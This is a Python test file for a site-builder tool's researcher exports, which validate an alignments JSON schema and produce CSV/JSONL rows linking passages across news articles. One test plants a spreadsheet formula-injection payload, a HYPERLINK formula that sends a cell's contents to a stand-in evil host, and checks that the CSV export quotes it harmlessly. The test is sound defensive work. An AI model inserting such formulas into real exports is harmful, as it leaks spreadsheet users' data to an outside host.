"""Exports for researchers: the JSON Schema of alignments.json, and `site-builder export`."""

from __future__ import annotations

import copy
import csv
import io
import json

import jsonschema
import pytest

from site_builder.commands.cli import main
from site_builder.core.model import Alignment, Group, Member
from site_builder.read.content import read_story
from site_builder.render.export import FIELDS, alignments_schema, link_rows
from tests.conftest import write_article


def validator() -> jsonschema.Draft202012Validator:
    schema = alignments_schema()
    jsonschema.Draft202012Validator.check_schema(schema)
    return jsonschema.Draft202012Validator(schema)


def test_the_bundled_sites_alignments_json_matches_the_shipped_schema(bundled_site):
    data = json.loads((bundled_site["output"] / "alignments.json").read_text(encoding="utf-8"))
    validator().validate(data)
    [story] = data["stories"]
    assert story["groups"] and story["related"]  # both kinds of group were validated
    passages = {(a["slug"], p["id"]) for a in story["articles"] for p in a["passages"]}
    for group in story["groups"] + story["related"]:  # what a schema cannot say
        members = [(m["article"], m["passage"]) for m in group["members"]]
        assert set(members) <= passages
        assert len({article for article, _ in members}) == len(members)


def test_the_schema_refuses_what_the_format_does_not_allow(bundled_site):
    data = json.loads((bundled_site["output"] / "alignments.json").read_text(encoding="utf-8"))
    check = validator()
    lonely = copy.deepcopy(data)
    lonely["stories"][0]["groups"][0]["members"] = lonely["stories"][0]["groups"][0]["members"][:1]
    unnamed = copy.deepcopy(data)
    del unnamed["stories"][0]["articles"][0]["outlet"]
    extra = copy.deepcopy(data)
    extra["stories"][0]["articles"][0]["passages"][0]["html"] = "<p>undocumented</p>"
    for broken in (lonely, unnamed, extra):
        with pytest.raises(jsonschema.ValidationError):
            check.validate(broken)


def test_export_schema_prints_the_shipped_schema(capsysbinary):
    assert main(["export", "--schema"]) == 0
    assert json.loads(capsysbinary.readouterr().out.decode("utf-8")) == alignments_schema()


@pytest.fixture
def accented(site):
    """The `site` fixture with a name spelt with accents in the two aligned passages."""
    for name in ("alpha", "beta"):
        path = site / "content" / "talks" / f"{name}.md"
        path.write_text(path.read_text().replace("Istanbul", "Istanbul with Çavuşoğlu"))
    return site


def test_csv_export_has_a_header_and_one_row_per_link_in_utf8(accented, capsysbinary):
    assert main(["export", "talks", "--config", str(accented / "site.yml")]) == 0
    text = capsysbinary.readouterr().out.decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert text.startswith(",".join(FIELDS) + "\r\n")
    [row] = rows
    assert row["story"] == "talks" and row["event_id"] == "g-1" and row["tier"] == "event"
    assert (row["outlet_a"], row["article_a"], row["passage_a"]) == ("Alpha News", "alpha", "p-1")
    assert (row["outlet_b"], row["article_b"], row["passage_b"]) == ("Beta Daily", "beta", "p-1")
    assert row["evidence_a"].startswith("Negotiators from Moscow and Kiev met in Istanbul with Ç")
    assert "Çavuşoğlu" in row["evidence_b"]
    assert 0 < float(row["score"]) <= 1 and row["event_title"]


def test_jsonl_export_to_a_file_holds_the_same_rows(accented, capsysbinary):
    config = str(accented / "site.yml")
    assert main(["export", "--config", config]) == 0
    from_csv = list(csv.DictReader(io.StringIO(capsysbinary.readouterr().out.decode("utf-8"))))
    target = accented / "links.jsonl"
    assert main(["export", "--format", "jsonl", "--output", str(target), "--config", config]) == 0
    assert capsysbinary.readouterr().out.decode() == f"Wrote 1 link to {target}\n"
    lines = target.read_text(encoding="utf-8").splitlines()
    objects = [json.loads(line) for line in lines]
    assert [list(o) for o in objects] == [list(FIELDS)]
    assert [{k: str(v) for k, v in o.items()} for o in objects] == from_csv


FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'


def test_csv_cells_a_spreadsheet_would_run_get_a_quote_and_jsonl_keeps_them(site, capsysbinary):
    story = site / "content" / "talks"
    for name, was, outlet in (("alpha", "Alpha News", FORMULA), ("beta", "Beta Daily", "@Beta")):
        path = story / f"{name}.md"
        path.write_text(path.read_text().replace(json.dumps(was), json.dumps(outlet)))
    config = str(site / "site.yml")
    assert main(["export", "--config", config]) == 0
    [row] = csv.DictReader(io.StringIO(capsysbinary.readouterr().out.decode("utf-8")))
    assert (row["outlet_a"], row["outlet_b"]) == ("'" + FORMULA, "'@Beta")
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert not [value for value in row.values() if value.startswith(starts)]
    assert main(["export", "--format", "jsonl", "--config", config]) == 0
    [line] = capsysbinary.readouterr().out.decode("utf-8").splitlines()
    assert (json.loads(line)["outlet_a"], json.loads(line)["outlet_b"]) == (FORMULA, "@Beta")


def test_export_needs_no_build_and_names_an_unknown_story(site, capsys):
    assert main(["export", "nope", "--config", str(site / "site.yml")]) == 1
    assert "no story 'nope'" in capsys.readouterr().err
    assert not (site / "output").exists()


def test_every_pair_of_a_group_is_a_link_and_related_links_are_marked(tmp_path):
    folder = tmp_path / "story"
    folder.mkdir()
    for slug in ("a", "b", "c"):
        write_article(folder, slug, "First one. Second one.\n\nAnother passage.", outlet=slug)
    story = read_story(folder)
    members = tuple(Member(slug, "p-1", (1,)) for slug in ("a", "b", "c"))
    alignment = Alignment(
        groups=(Group("g-1", "An event", 0.5, members, time="2024-05"),),
        related=(Group("r-1", "A theme", 0.1, (Member("a", "p-2", ()), Member("c", "p-2", ()))),),
    )
    rows = list(link_rows(story, alignment))
    pairs = [(r["tier"], r["article_a"], r["article_b"]) for r in rows]
    assert pairs == [
        ("event", "a", "b"),
        ("event", "a", "c"),
        ("event", "b", "c"),
        ("related", "a", "c"),
    ]
    assert rows[0]["evidence_a"] == "Second one." and rows[0]["time"] == "2024-05"
    assert rows[3]["evidence_a"] == "Another passage."  # no sentence named: the passage
